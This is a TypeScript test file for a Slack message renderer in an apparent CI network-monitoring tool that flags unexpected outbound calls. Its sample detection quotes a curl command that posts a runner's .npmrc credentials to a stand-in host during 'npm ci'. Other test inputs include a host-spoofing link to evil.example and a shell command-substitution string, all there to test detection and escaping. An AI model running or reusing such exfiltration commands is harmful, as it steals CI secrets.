import {
  hostileNotification,
  otherKindsOfNotification,
  sampleNotification,
  sparseNotification,
} from "@straycall/core/conformance";
import { describe, expect, it } from "vitest";
import { renderMessage } from "../src/render-message.js";
import { expectWithinLimits } from "./block-kit-limits.js";
import { textOfMessage } from "./text-of-message.js";

describe("renderMessage", () => {
  it("can be read from top to bottom", () => {
    expect(textOfMessage(renderMessage(sampleNotification()))).toBe(`\
🟠 New outbound call: collector.example:8443
High severity. build in acme/shop called collector.example:8443, which none of the 42 runs learned so far had called.
The job never called any host of collector.example before.
None of the job's calls goes to port 8443.
Command
curl -sS --data-binary @/home/runner/.npmrc https://collector.example:8443/u
Called by
npm ci
Endpoint: collector.example:8443
Address: 203.0.113.9 (public), tcp
Job: acme/shop · .github/workflows/ci.yml · build
Run: 7431885120, attempt 2
Time: 2026-01-31 13:37:00 UTC
Step: Install dependencies
Process: pid 4242, parent 4190, user runner
Request: POST /u
Result: established
Commit: 5f3c1d0b9a8e7f6d5c4b3a29180f7e6d5c4b3a29
Show details  ·  Open the run at github.com
Straycall detection 01KGB7Z4M8Q6V2T9X3C5D1E0FA`);
  });

  it("says of a blocked call that the policy refused it", () => {
    const { detection, ...more } = sampleNotification();
    const message = renderMessage({ ...more, detection: { ...detection, kind: "blocked-call" } });
    expect(message.text).toBe(
      "🟠 High: Blocked call: collector.example:8443\nbuild in acme/shop tried to call collector.example:8443, and its policy refused that.",
    );
  });

  it("says of every kind what it is, and why", () => {
    const messages = otherKindsOfNotification().map((notification) => ({
      text: textOfMessage(renderMessage(notification)),
      reasons: notification.detection.reasons.map(({ text }) => text),
    }));
    expect(messages.map(({ text }) => text.split("\n", 1)[0])).toEqual([
      "🟠 New way to call: collector.example:8443",
      "🟠 Worse call to a new endpoint: collector.example:8443",
      "🟠 Unusual traffic: collector.example:8443",
      "🟠 Data in DNS names: tunnel.example",
      "🟠 New job: acme/shop · .github/workflows/ci.yml · build",
      "🟠 Blocked call: collector.example:8443",
    ]);
    for (const { text, reasons } of messages) {
      for (const reason of reasons) expect(text).toContain(reason);
    }
  });

  it("says the same in short for a push notification", () => {
    expect(renderMessage(sampleNotification()).text).toBe(
      "🟠 High: New outbound call: collector.example:8443\nbuild in acme/shop called collector.example:8443, which none of the 42 runs learned so far had called.",
    );
  });

  it.each([
    ["info", "⚪"],
    ["low", "🔵"],
    ["medium", "🟡"],
    ["high", "🟠"],
    ["critical", "🔴"],
  ] as const)("marks the severity %s with %s and with its word", (severity, mark) => {
    const notification = sampleNotification();
    notification.detection.severity = severity;
    const text = textOfMessage(renderMessage(notification));
    expect(text.startsWith(mark)).toBe(true);
    expect(text.toLowerCase()).toContain(`\n${severity} severity.`);
  });

  it("leaves out what is not known, and every link that is not there", () => {
    const message = renderMessage(sparseNotification());
    expect(textOfMessage(message)).not.toMatch(/Command|Step|Show details|Open the run|undefined/);
    expect(JSON.stringify(message)).not.toContain('"link"');
  });

  it("links to the details and to the run", () => {
    const json = JSON.stringify(renderMessage(sampleNotification()));
    expect(json).toContain(
      '"url":"https://straycall.example/detections/01KGB7Z4M8Q6V2T9X3C5D1E0FA"',
    );
    expect(json).toContain('"url":"https://github.com/acme/shop/actions/runs/7431885120"');
  });

  it.each([
    ["usual", sampleNotification()],
    ["sparse", sparseNotification()],
    ["hostile", hostileNotification()],
  ])("keeps a %s message within Slack's limits", (_, notification) => {
    expectWithinLimits(renderMessage(notification));
  });

  it("gives hostile text no place where Slack reads mrkdwn", () => {
    expect(JSON.stringify(renderMessage(hostileNotification()))).not.toContain("mrkdwn");
  });

  it("escapes mentions and links in the short text", () => {
    const { text } = renderMessage(hostileNotification());
    expect(text).not.toMatch(/[<>]/);
    expect(text).not.toMatch(/&(?!amp;|lt;|gt;)/);
    expect(text.split("\n")).toHaveLength(2);
  });

  it("links to nothing but the web, and not where a link lies about its host", () => {
    const notification = hostileNotification();
    expect(JSON.stringify(renderMessage(notification))).not.toContain("javascript:");
    notification.links = { run: "https://github.com@evil.example/acme/shop" };
    expect(JSON.stringify(renderMessage(notification))).not.toContain("evil.example/acme");
  });

  it("keeps a command as it was run, backticks and all", () => {
    const notification = sampleNotification();
    notification.detection.evidence.call.commandLine = "sh -c 'echo `id` > <&1 *_~'";
    expect(JSON.stringify(renderMessage(notification).blocks)).toContain(
      "sh -c 'echo `id` > <&1 *_~'",
    );
  });

  it("cuts a long command, and shows that it did", () => {
    const notification = sampleNotification();
    notification.detection.evidence.call.commandLine = `node -e ${"x".repeat(5_000)}`;
    expect(textOfMessage(renderMessage(notification))).toMatch(/\nnode -e x{900,1000}…\n/);
  });

  it("asks Slack not to fetch what the message names", () => {
    expect(renderMessage(sampleNotification())).toMatchObject({
      unfurl_links: false,
      unfurl_media: false,
    });
  });
});
